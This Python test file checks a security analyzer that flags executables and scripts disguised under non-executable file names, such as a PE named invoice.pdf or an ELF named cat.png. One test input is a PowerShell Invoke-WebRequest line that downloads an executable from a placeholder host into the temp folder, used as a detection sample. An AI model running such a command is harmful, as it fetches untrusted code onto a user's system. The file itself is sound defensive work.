"""A name that lies about the content: executables named as text/images/scripts, scripts named as images."""

from __future__ import annotations

import pytest

from inspector.analyzers.type_mismatch import TypeMismatchAnalyzer
from inspector.model import ArtifactType
from tests.binaries.elf_builder import build_elf
from tests.binaries.payloads import context, payload
from tests.binaries.pe_builder import build_pe

ANALYZER = TypeMismatchAnalyzer()
PE = build_pe().data
ELF = build_elf().data


def finding_ids(data: bytes, kind: ArtifactType, *, url: str | None = None, origin: str = "fileUris[0]") -> list[str]:
    out = ANALYZER.analyze(payload(data, kind, url=url, origin=origin), context())
    return [f.id for f in out.findings]


@pytest.mark.parametrize("name", ["readme.txt", "logo.PNG", "photo.jpg", "install.ps1", "setup.sh", "debug.log",
                                  "invoice.pdf", "data.json"])
def test_a_pe_delivered_under_a_non_executable_name(name: str) -> None:
    assert finding_ids(PE, ArtifactType.PE, url=f"https://example.invalid/c/{name}?sv=1&sig=x") == ["type.extension_mismatch"]


@pytest.mark.parametrize("name", ["agent.exe", "hook.dll", "driver.sys", "payload.bin", "download", "blob.dat"])
def test_a_pe_under_an_executable_or_neutral_name_is_fine(name: str) -> None:
    assert finding_ids(PE, ArtifactType.PE, url=f"https://example.invalid/c/{name}") == []


def test_an_elf_named_as_an_image() -> None:
    out = ANALYZER.analyze(payload(ELF, ArtifactType.ELF, url="https://example.invalid/img/cat.png"), context())
    [finding] = out.findings
    assert finding.id == "type.extension_mismatch" and finding.attack == ["T1036.008"]
    assert finding.snippet == "ELF content named cat.png"


def test_an_elf_with_a_shell_name_is_a_mismatch_but_without_a_name_is_not() -> None:
    assert finding_ids(ELF, ArtifactType.ELF, url="https://example.invalid/x/install.sh") == ["type.extension_mismatch"]
    assert finding_ids(ELF, ArtifactType.ELF, url="https://example.invalid/x/kworker") == []


def test_a_script_named_as_an_image() -> None:
    text = b"Invoke-WebRequest https://example.invalid/a -OutFile $env:TEMP\\a.exe"
    assert finding_ids(text, ArtifactType.POWERSHELL, url="https://example.invalid/img/banner.jpg") == [
        "type.extension_mismatch.script"]


def test_a_script_with_a_script_or_text_name_is_fine() -> None:
    text = b"echo hello"
    assert finding_ids(text, ArtifactType.SHELL, url="https://example.invalid/run.sh") == []
    assert finding_ids(text, ArtifactType.SHELL, url="https://example.invalid/notes.txt") == []


def test_the_name_can_come_from_an_archive_member_origin() -> None:
    assert finding_ids(PE, ArtifactType.PE, origin="zip:docs/readme.txt") == ["type.extension_mismatch"]


def test_request_field_origins_are_not_file_names() -> None:
    assert finding_ids(PE, ArtifactType.PE, origin="protectedSettings.commandToExecute") == []
    assert finding_ids(PE, ArtifactType.PE, origin="decoded:base64") == []


def test_only_executables_and_scripts_are_accepted() -> None:
    assert ANALYZER.accepts(payload(b"{}", ArtifactType.JSON).artifact) is False
    assert ANALYZER.accepts(payload(PE, ArtifactType.PE).artifact) is True
